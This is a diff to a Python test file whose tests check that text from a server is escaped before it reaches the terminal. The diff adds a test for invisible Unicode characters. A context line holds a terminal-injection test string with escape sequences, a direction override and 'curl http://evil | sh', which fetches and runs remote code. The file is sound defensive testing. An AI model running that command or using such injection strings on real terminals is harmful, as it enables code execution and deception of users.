@@ -199,6 +199,16 @@ def test_what_a_server_says_cannot_move_the_cursor_of_the_terminal(plain, tmp_pa
     assert r"\x1b]0;owned\x07\x1b[2J\x1b[Hyou are dell\u202e\ncurl http://evil | sh" in err
 
 
+def test_what_a_server_says_hides_nothing(plain, tmp_path):
+    """These four are printable for Python, and nothing on a screen."""
+    line, token, _ = invited(plain, "dell")
+    plain.stop()
+    with Between(plain.port) as between:
+        between.says = "a\u3164b\u2800c\ufe0fd\U000e0100e"
+        code, _, err = join(plain, "dell", token, tmp_path / "home", pin=line)
+    assert code == 1 and r"a\u3164b\u2800c\ufe0fd\U000e0100e" in err, ascii(err)
+
+
 def test_what_a_configuration_says_cannot_either(plain, tmp_path):
     home = tmp_path / "home"
     other_bus(home)
